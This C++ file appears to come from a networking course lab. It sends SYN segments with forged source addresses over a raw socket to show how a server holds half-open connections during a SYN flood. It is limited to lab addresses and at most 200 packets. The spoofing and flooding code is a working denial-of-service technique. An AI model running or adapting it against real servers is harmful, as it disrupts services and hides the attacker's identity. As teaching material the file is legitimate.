// syn_flood.cpp - SYNs from hosts that do not exist: connections that stay half open.
//
// Look for
//   [1] a raw socket for which we make the IP header: it can name any sender;
//   [2] the SYN ACK goes to nobody, and the server keeps the half-open connection until it has
//       repeated the SYN ACK often enough;
//   [3] it reaches only the server of the lab, and with no more than 200 segments;
//   [4] a host that exists has no such connection, and answers the SYN ACK with RST.
//
// Usage:   syn_flood [PORT [COUNT [strangers | own]]]    on client in ./course lab wire
// Manual:  raw(7) ip(7) tcp(7)
// Next:    ch06_udp/echo_server
#include <netinet/in.h>

#include <system_error>

#include "ch02_packets/packet.hpp"
#include "common/program.hpp"
#include "common/sys_socket.hpp"

namespace {

constexpr packet::Ip client{10, 0, 4, 1};
constexpr packet::Ip server{10, 0, 4, 2};  // [3]
constexpr packet::Ip stranger{10, 0, 5, 1};

packet::Buffer make_syn(const packet::Ip& sender, std::uint16_t sender_port, std::uint16_t port) {
    packet::Packet packet;
    packet.ipv4 = {.protocol = packet::TCP, .source_ip = sender, .destination_ip = server};
    packet.tcp = {.source_port = sender_port, .destination_port = port, .flags = packet::SYN};
    packet::complete(packet);
    return packet::encode(packet);
}

// bind() works only on the lab's client: no other host has its address.
net::Fd raw_socket() try {
    auto socket = sys::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // [1]
    sys::bind(socket, net::parse("10.0.4.1", 0));               // [3]
    sys::connect(socket, net::parse("10.0.4.2", 0));
    return socket;
} catch (const std::system_error& error) {
    throw std::runtime_error{error.what() +
                             std::string{"\nthis runs on client in ./course lab wire"}};
}

void flood(app::Args args) {
    const auto port = static_cast<std::uint16_t>(app::number(args, 0, "PORT", 1, 65535, 9190));
    const auto count = app::number(args, 1, "COUNT", 1, 200, 100);  // [3]
    const auto sender = app::choice(args, 2, {"strangers", "own"}, 0) == 0 ? stranger : client;
    const auto socket = raw_socket();
    for (long i = 0; i < count; ++i) {
        const auto sender_port = static_cast<std::uint16_t>(10'000 + i);
        (void)sys::send(socket, make_syn(sender, sender_port, port));  // [2] [4]
    }
    app::say(count, " SYNs sent");
}

}  // namespace

int main(int argc, char* argv[]) {
    return app::run(argc, argv, {"[PORT [COUNT [strangers | own]]]", 3}, flood);
}
